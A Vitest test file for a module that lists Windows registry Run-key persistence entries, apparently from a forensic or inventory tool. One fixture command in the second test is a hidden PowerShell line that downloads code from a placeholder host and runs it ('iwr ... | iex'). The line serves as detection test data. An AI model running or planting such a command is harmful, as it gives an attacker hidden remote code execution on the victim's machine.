import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { parseRunKeys, RUN_KEYS } from '../../../../modules/persistence/windows/registry.ts';
import { runKeyEntries } from '../../../../modules/persistence/windows/run-keys.ts';
import { createRunClock } from '../../../../platform/async/run-clock.ts';

const FIXTURE = new URL('../../../fixtures/modules/persistence/run-keys.json', import.meta.url);

function entries() {
  const denied: string[] = [];
  const values = parseRunKeys(readFileSync(FIXTURE, 'utf8'));
  const found = [...runKeyEntries(values, { onDenied: (key) => denied.push(key) })];
  return { found, denied };
}

test('the values of run keys are found, and whether somebody switched them off', () => {
  expect(entries().found.map(({ name, user, isEnabled }) => ({ name, user, isEnabled }))).toEqual([
    { name: 'SecurityHealth', user: '', isEnabled: true },
    { name: 'VMware User Process', user: '', isEnabled: false },
    { name: '1', user: '', isEnabled: true },
    { name: 'Updater', user: '', isEnabled: false },
    { name: 'Updater', user: 'WIN10\\ada', isEnabled: true },
    { name: '', user: 'WIN10\\ada', isEnabled: true },
  ]);
});

test('a value has the path of its key and its command, but neither time nor hash', () => {
  const entry = entries().found[4];
  expect(entry).toMatchObject({
    kind: 'run-key',
    path: 'HKEY_USERS\\S-1-5-21-1004336348-1177238915-682003330-1001\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
    commands: [`powershell -w hidden -c "iwr http://x | iex & echo 'hi' > nul"`],
    mtimeMs: undefined,
  });
  expect(entry?.sha256(createRunClock(0))).toBe('');
});

test('a key that is denied is reported', () => {
  expect(entries().denied).toEqual([expect.stringMatching(/-1002\\SOFTWARE\\.*\\Run$/)]);
});

test.each(['', '[]'])('no run keys at all, as %j, are no entries', (printed) => {
  expect(parseRunKeys(printed)).toEqual([]);
});

test.each(['{', '{"key":1}', '[{"key":"a"}]'])('%s is refused by name', (printed) => {
  expect(() => parseRunKeys(printed)).toThrow('PowerShell printed no run keys');
});

test('the script asks for the keys of the machine and of users, and would pass through a command line', () => {
  expect(RUN_KEYS).toContain("'HKEY_LOCAL_MACHINE'");
  expect(RUN_KEYS).toContain("'SOFTWARE\\WOW6432Node'");
  expect(RUN_KEYS).not.toContain('"');
});
